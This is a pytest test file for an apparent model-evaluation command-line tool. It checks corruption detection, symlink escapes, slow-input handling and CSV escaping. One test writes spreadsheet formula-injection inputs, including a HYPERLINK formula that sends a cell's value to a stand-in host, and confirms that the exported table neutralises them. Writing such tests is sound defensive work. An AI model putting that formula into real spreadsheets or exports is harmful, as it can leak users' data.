@@ -1,0 +1,329 @@
+"""What the disk, the page and the socket promise, from a shell: a damaged file is found, a secret is not shown, a link leads
+nowhere, an odd text takes no time. Each test begins with a command, as a user does."""
+import csv, errno, io, json, os, shutil, sqlite3
+from contextlib import closing
+from pathlib import Path
+import numpy as np
+import pytest, torch
+from PIL import Image
+from carve_nb.cli.main import main
+from carve_nb.core import io as files
+from carve_nb.core.errors import CarveError
+from carve_nb.data.run_store import STORE
+from carve_nb.evaluation.report import Report
+from carve_nb.models.vlm import VLM
+
+
+@pytest.fixture
+def shell(capsys):
+    "shell('eval', ...) -> status, standard output, what was said beside it on one line"
+    def run(*words):
+        torch.set_num_threads(1)
+        status = main([*map(str, words)])
+        said = capsys.readouterr()
+        return status, said.out, ' '.join(said.err.split())
+    return run
+
+
+def write_set(folder, **change):
+    "Three questions about one picture"
+    folder.mkdir(exist_ok=True)
+    Image.effect_noise((60, 50), 60).convert('RGB').save(folder/'a.png')
+    rows = [dict(id=i, image='a.png', question=f'What digit is on the {i} star?', answer='5', **change) for i in ('red', 'blue', 'green')]
+    (folder/'q.jsonl').write_text(''.join(json.dumps(r) + '\n' for r in rows))
+    return folder
+
+
+SHORT = '--max-new-tokens', 2, '--quiet'
+
+
+@pytest.fixture(scope='module')
+def made(tmp_path_factory):
+    "A data set, and a run of it"
+    torch.set_num_threads(1)
+    root = tmp_path_factory.mktemp('kept')
+    write_set(root/'D')
+    assert main([*map(str, ('eval', root/'D', '--methods', 'none,carve', '--maps', '--out', root/'R', *SHORT))]) == 0
+    return root/'D', root/'R'
+
+
+@pytest.fixture
+def again(made, tmp_path, shell):
+    "A copy of the run, and the command that made it; further words may follow"
+    out = shutil.copytree(made[1], tmp_path/'R')
+    return out, lambda *more: shell('eval', made[0], '--methods', 'none,carve', '--maps', '--out', out, *SHORT, *more)
+
+
+def sql(out, text, *values):
+    "Change the database with the usual tool"
+    with closing(sqlite3.connect(out/STORE)) as db:
+        db.execute(text, values)
+        db.commit()
+
+
+def lines(out): return [{k: v for k, v in json.loads(l).items() if k != 'seconds'} for l in (out/'records.jsonl').read_text().splitlines()]
+
+
+CHANGES = ["line = replace(line, '\"score\": 0.0', '\"score\": 5.0')", "line = replace(line, '\"score\": 0.0', '\"score\": 1.0')", "line = replace(line, '\"answer\": \"', '\"answer\": \"6')",
+           'line = substr(line, 1, 40)', 'place = 9', "id = 'yellow'", "line = cast(x'ff7b7d' as text)", 'line = NULL', "sum = 'x'"]
+
+
+@pytest.mark.case(49)
+@pytest.mark.parametrize('change', CHANGES)
+def test_a_changed_line_is_found_and_measured_again(again, shell, change):
+    "One line of run.sqlite is changed or cut: report and eval refuse it, --retry measures it again and keeps the others"
+    out, command = again
+    before, table = lines(out), shell('report', out)[1]
+    sql(out, f'UPDATE lines SET {change} WHERE rowid = 3')
+    kept = (out/STORE).read_bytes()
+    for status, _, said in (shell('report', out), command()):
+        assert status == 2 and 'run.sqlite is damaged: 1 of 6 lines' in said and '--retry' in said and 'Traceback' not in said, said
+    assert (out/STORE).read_bytes() == kept
+    with closing(sqlite3.connect(out/STORE)) as db: others = db.execute('SELECT line FROM lines WHERE rowid != 3').fetchall()
+    status, _, said = command('--retry')
+    assert status == 0 and '1 damaged lines' in said, said
+    with closing(sqlite3.connect(out/STORE)) as db: assert {*others} < {*db.execute('SELECT line FROM lines')}       # with their seconds
+    assert lines(out) == before and shell('report', out)[1] == table
+
+
+def test_an_answer_must_give_its_score(again):
+    "Lines from before there were digests: an answer whose score is another's is refused when the run goes on, and measured again with --retry"
+    out, command = again
+    before = lines(out)
+    sql(out, "UPDATE lines SET sum = NULL, line = json_set(line, '$.answer', '5') WHERE rowid = 2")
+    status, _, said = command()
+    assert status == 2 and "the answer '5' to" in said and 'has the score 1, not 0' in said, said
+    assert command('--retry')[0] == 0 and lines(out) == before
+
+
+def test_a_changed_protocol_is_found(again, shell):
+    out, command = again
+    sql(out, "UPDATE config SET value = replace(value, '\"n\": 3', '\"n\": 2')")
+    for status, _, said in (shell('report', out), command(), command('--retry')): assert status == 2 and 'its protocol has changed' in said, said
+
+
+def test_runs_from_before_there_were_digests(again, shell):
+    "They are read, reported and gone on with"
+    out, command = again
+    table = shell('report', out)[1]
+    for name in 'lines', 'config': sql(out, f'ALTER TABLE {name} DROP COLUMN sum')
+    protocol = json.loads((out/'protocol.json').read_text())
+    del protocol['sum']
+    (out/'protocol.json').write_text(json.dumps(protocol))
+    assert shell('report', out) == (0, table, '') and command()[0] == 0
+    sql(out, "UPDATE lines SET sum = NULL, line = replace(line, '\"score\": 0.0', '\"score\": 5.0')")
+    assert 'the score 5.0 is not in 0..1' in shell('report', out)[2]
+
+
+@pytest.mark.case(49)
+@pytest.mark.parametrize('old, new, why', [('"score": 0.0', '"score": 1.0', 'not as it was written'), ('"score": 0.0', '"score": 5.0', 'the score 5.0 is not in 0..1'), ('"score": 0.0', '"score": "1"', "score is '1'"),
+                                           ('"status": "ok", ', '', 'no "status"'), ('"method": "carve"', '"method": "crave"', "names no method 'crave'"), (None, None, 'stands in it twice')])
+def test_exports_alone(again, shell, old, new, why):
+    "A changed, a strange and a repeated line of records.jsonl are refused where there is no database"
+    out, _ = again
+    (out/STORE).unlink()
+    assert shell('report', out)[0] == 0
+    path = out/'records.jsonl'
+    text = path.read_text()
+    path.write_text(text.replace(old, new) if old else text + text.splitlines()[0] + '\n')
+    status, said, err = shell('report', out)
+    assert (status, said) == (2, '') and f'records.jsonl is damaged ({why}' in err.replace('a line has ', '').replace("'blue' ", '').replace("'red' ", '').replace('the protocol ', ''), err
+
+
+@pytest.mark.parametrize('raw, why', [('[]', 'is damaged'), ('{}', 'names no data'), ('{"data": 3}', 'names no data'), ('[1]', 'is damaged'), ('', 'is damaged')])
+def test_strange_protocols(again, shell, raw, why):
+    "A protocol of another form: a sentence, of exports and of a database"
+    out, command = again
+    sql(out, 'UPDATE config SET value = ?, sum = NULL', raw)
+    for status, _, said in (shell('report', out), command()): assert status == 2 and 'Error:' not in said and (why in said or 'holds another run' in said or 'names no method' in said), said
+    (out/STORE).unlink()
+    (out/'protocol.json').write_text(raw)
+    status, _, said = shell('report', out)
+    assert status == 2 and 'Error:' not in said and (why in said or 'names no data' in said), said
+
+
+@pytest.mark.case(50)
+@pytest.mark.parametrize('left', [0, 1])
+def test_an_empty_database_is_no_empty_folder(again, made, shell, left):
+    "Cut to nothing beside its exports: nothing is written over them, by the same command and by another; --force sets all aside"
+    out, command = again
+    (out/STORE).write_bytes((out/STORE).read_bytes()[:left])
+    kept = {p.name: p.read_bytes() for p in out.iterdir()}
+    other = lambda *more: shell('eval', 'scenes', '--n', 2, '--methods', 'none', '--out', out, *SHORT, *more)
+    for status, shown, said in (command(), command('--retry'), other(), shell('report', out)):
+        assert (status, shown) == (2, '') and 'run.sqlite is empty, and records.jsonl beside it is not' in said, said
+    assert {p.name: p.read_bytes() for p in out.iterdir()} == kept
+    status, _, said = other('--force')
+    assert status == 0 and 'Set aside' in said and {p.name: p.read_bytes() for p in (out/'before-1').iterdir()} == {k: v for k, v in kept.items() if k != 'run.lock'}
+
+
+@pytest.mark.case(57)
+def test_formulas_in_a_table_of_results(tmp_path, shell):
+    "A spreadsheet finds texts where a set has formulas; the lines keep them as they are"
+    (tmp_path/'D').mkdir()
+    Image.new('RGB', (60, 50), 'red').save(tmp_path/'D'/'a.png')
+    asked = dict(zip(('=1+1', '+2', '@SUM(A1)'), ('=HYPERLINK("http://x/?"&A1,"click")', '-2+3 is?', '\t=4')))
+    (tmp_path/'D'/'q.jsonl').write_text(''.join(json.dumps(dict(id=i, image='a.png', question=q, answer='-5')) + '\n' for i, q in asked.items()))
+    assert shell('eval', tmp_path/'D', '--methods', 'none', '--out', tmp_path/'R', *SHORT)[0] == 0
+    rows = list(csv.DictReader(io.StringIO((tmp_path/'R'/'results.csv').read_text())))
+    assert [r['id'] for r in rows] == ["'=1+1", '+2', "'@SUM(A1)"] and {r['truth'] for r in rows} == {'-5'}      # numbers stay
+    assert not [v for r in rows for v in r.values() if v[:1] in '=@\t' and v] and rows[0]['question'] == "'" + asked['=1+1']
+    assert [l['id'] for l in lines(tmp_path/'R')] == [*asked]
+
+
+def test_a_folder_that_can_only_be_read(again, shell, monkeypatch):
+    "The report of somebody else's folder is shown; that it was not kept is said of the file that was meant"
+    out, _ = again
+    whole = shell('report', out)[1]
+    def refuse(*args, **kw): raise OSError(errno.EROFS, 'Read-only file system', str(args[0]))
+    monkeypatch.setattr(files, 'open', refuse, raising=False)
+    monkeypatch.setattr(files.Path, 'unlink', refuse)
+    status, shown, said = shell('report', out)
+    assert status == 0 and shown == whole[:whole.index('written to')] and f'{out}/protocol.json cannot be written: Read-only file system' in said, (shown, said)
+    with pytest.raises(OSError, match='x.txt'): files.replace_file(out/'x.txt', 'x')
+
+
+def test_a_folder_that_goes_away(made, tmp_path, shell, monkeypatch):
+    "What is not there is not kept, and room is not the matter"
+    from carve_nb.data.run_store import RunStore
+    def vanish(self, records, add=RunStore.add):
+        shutil.rmtree(tmp_path/'R', ignore_errors=True)
+        add(self, records)
+    monkeypatch.setattr(RunStore, 'add', vanish)
+    status, _, said = shell('eval', made[0], '--methods', 'none', '--out', tmp_path/'R', *SHORT)
+    assert status == 1 and 'was deleted or replaced' in said and 'room' not in said and 'are kept' not in said, said
+
+
+def test_a_field_that_is_given_twice(shell, tmp_path):
+    status, _, said = shell('eval', 'scenes', '--methods', 'carve:p=.1:p=.2', '--out', tmp_path/'R')
+    assert status == 2 and 'gives p twice' in said and not (tmp_path/'R').exists(), said
+
+
+def test_lines_of_methods_that_the_protocol_does_not_name(again, shell):
+    "Refused before anything is measured"
+    out, command = again
+    sql(out, "UPDATE config SET sum = NULL, value = json_remove(value, '$.methods.carve')")
+    for status, shown, said in (shell('report', out), command()):
+        assert (status, shown) == (2, '') and "names no method 'carve'" in said, said
+
+
+@pytest.mark.case(35)
+@pytest.mark.parametrize('change', [dict(values='AAAA'), dict(values='x'), dict(grid=[3]), dict(grid=None), dict(box=[0, 0, 0, 0]), dict(size='1'), 3, None, {}, 'nan'])
+def test_damaged_maps(again, change):
+    "`Report.maps` of a map that was damaged, with its digest and without: a CarveError"
+    out, _ = again
+    whole = Report.load(out).maps('carve')
+    assert len(whole) == 3
+    for digest in True, False:
+        report = Report.load(out)
+        for line in report.select('carve'):
+            if change == 'nan':
+                import base64
+                n = int(np.prod(line['map']['grid']))
+                line['map'] = line['map'] | dict(values=base64.b64encode(np.full(n, np.nan, '<f4').tobytes()).decode())
+            else: line['map'] = line['map'] | change if change and isinstance(change, dict) else change
+            if not digest and isinstance(line['map'], dict): line['map'].pop('sum', None)
+        with pytest.raises(CarveError, match='damaged'): report.maps('carve')
+
+
+@pytest.mark.case(35)
+def test_damaged_rows(tmp_path):
+    "One number of saved rows with another sign, or NaN, is found when they are loaded; rows from before there were digests are read"
+    from safetensors import safe_open
+    from safetensors.torch import save_file
+    from carve_nb.attention.rows import AttentionRows
+    from carve_nb.data.scenes import make_scene
+    torch.set_num_threads(1)
+    path, scene = tmp_path/'rows.safetensors', make_scene(16)
+    VLM.from_pretrained().capture(scene.image, 'What digit is on the blue cross?', max_new_tokens=1).save(path)
+    whole = AttentionRows.load(path)
+    with safe_open(path, 'pt') as f: meta, tensors = f.metadata(), {k: f.get_tensor(k) for k in f.keys()}
+    old = {'carve_rows': meta['carve_rows']}
+    save_file(tensors, path, metadata=old)
+    assert torch.equal(AttentionRows.load(path).attn, whole.attn)
+    for name, t in tensors.items():
+        for bad, facts in ((-t, meta), (t.float().masked_fill(torch.arange(t.numel()).reshape(t.shape) == 3, float('nan')).to(t.dtype), old)):
+            save_file(tensors | {name: bad.contiguous()}, path, metadata=facts)
+            with pytest.raises(CarveError, match='is damaged'): AttentionRows.load(path)
+    save_file(tensors, path, metadata=meta | {'carve_rows': meta['carve_rows'].replace('blue', 'grey').replace('"layers": [0', '"layers": [1')})
+    with pytest.raises(CarveError, match='is damaged'): AttentionRows.load(path)
+
+
+@pytest.mark.parametrize('change', [dict(layers=True), dict(layers=[True]), dict(layers=['1']), dict(layers=[-1]), dict(read=None), dict(agreement=dict(noun=[.1])), dict(agreement=3), dict(agreement=dict(last='x')),
+                                    dict(again='sure'), dict(again=None), dict(n='9'), dict(row='verb'), dict(row=None), dict(gain=[1]), dict(gain='x'), dict(touch=[1]), dict(model=3), dict(rules=3)])
+def test_damaged_profiles(change, tmp_path, shell, monkeypatch):
+    "Whoever asks with a damaged profile is told so in a sentence"
+    from carve_nb.core.io import CHECKPOINTS
+    from carve_nb.method.profiles import profile_path
+    monkeypatch.setenv('CARVE_PROFILES', str(tmp_path))
+    path, kept = profile_path(VLM.from_pretrained()), json.loads((CHECKPOINTS/'carve-tiny'/'profile.json').read_text())
+    path.write_text(json.dumps(kept | change))
+    Image.new('RGB', (60, 50), 'red').save(tmp_path/'a.png')
+    status, _, said = shell('ask', tmp_path/'a.png', 'What is on the red star?', '--method', 'lookup')
+    assert status == 2 and path.name in said and 'Error:' not in said, said
+
+
+@pytest.fixture
+def linked(tmp_path):
+    "A set in which a name is a link to a file that is nobody's business"
+    set_ = write_set(tmp_path/'D')
+    Image.new('RGB', (60, 50), 'red').save(tmp_path/'secret.png')
+    return set_
+
+
+def test_a_picture_that_is_a_link_out_of_its_set(linked, shell, tmp_path):
+    "As a tar keeps links: refused before a model is loaded or anything is sent; a link inside the set is a file of it"
+    (linked/'a.png').rename(linked/'b.png')
+    (linked/'a.png').symlink_to(linked/'b.png')
+    asked = lambda *more: shell('eval', linked, '--n', 1, '--methods', 'none', '--out', tmp_path/'R', *SHORT, *more)
+    assert asked()[0] == 0
+    (linked/'a.png').unlink()
+    (linked/'a.png').symlink_to(tmp_path/'secret.png')
+    for more in (), ('--answer-by', 'http://127.0.0.1:9/v1#m'):
+        status, _, said = asked('--force', *more)
+        assert status == 2 and f'{linked}/a.png is a link that leads out of the folder of the set' in said and 'leave this machine' not in said, said
+
+
+@pytest.mark.parametrize('named', [False, True])
+def test_questions_that_are_a_link_out_of_their_set(linked, shell, tmp_path, named):
+    (linked/'q.jsonl').rename(tmp_path/'q.jsonl')
+    (linked/'q.jsonl').symlink_to(tmp_path/'q.jsonl')
+    status, _, said = shell('eval', linked/'q.jsonl' if named else linked, '--methods', 'none', '--out', tmp_path/'R', *SHORT)
+    assert status == 2 and 'q.jsonl is a link that leads out of the folder of the set' in said, said
+
+
+@pytest.mark.parametrize('question', ['a' + '\n'*200_000 + 'b', 'a' + ' '*200_000 + 'b', 'A.x' + ' '*200_000 + 'y\nB. z', 'A.' + '\n'*200_000, '(A) x\n'*4000, 'a\n' + ' \n'*100_000])
+def test_odd_questions_take_no_time(tmp_path, shell, question):
+    "A row of 200 kB: refused in words, as its tokens do not fit, and not after a minute"
+    import time
+    (tmp_path/'D').mkdir()
+    Image.new('RGB', (60, 50), 'red').save(tmp_path/'D'/'a.png')
+    (tmp_path/'D'/'q.jsonl').write_text(json.dumps(dict(image='a.png', question=question, answer='x')) + '\n')
+    begun = time.monotonic()
+    status, _, said = shell('eval', tmp_path/'D', '--methods', 'none', '--out', tmp_path/'R', *SHORT)
+    assert status in (0, 1, 2) and 'Traceback' not in said and time.monotonic() - begun < 30, said
+
+
+def test_long_answers_are_compared_in_time():
+    "5,000 letters against 5,000 took half a minute; one that is far longer than the other is none of it"
+    import random, time
+    from carve_nb.data.records import Record
+    from carve_nb.data.scoring import edit_distance, score_answer
+    chance = random.Random(0)
+    text = lambda n: ''.join(chance.choices('abcd', k=n))
+    def plain(a, b):
+        "Levenshtein's distance as it is defined"
+        last = [*range(len(b) + 1)]
+        for i, x in enumerate(a, 1):
+            row = [i]
+            for j, y in enumerate(b): row.append(min(last[j + 1] + 1, row[j] + 1, last[j] + (x != y)))
+            last = row
+        return last[-1]
+    for _ in range(200):
+        a, b = text(chance.randrange(9)), text(chance.randrange(9))
+        assert edit_distance(a, b) == plain(a, b)
+    begun = time.monotonic()
+    long = text(5000)
+    assert score_answer(long[:2500] + 'x' + long[2500:], Record('a', None, '?', [long], rule='anls')) == pytest.approx(1 - 1/5001)
+    assert score_answer('a'*10**6, Record('a', None, '?', [long], rule='anls')) == 0
+    assert time.monotonic() - begun < 5
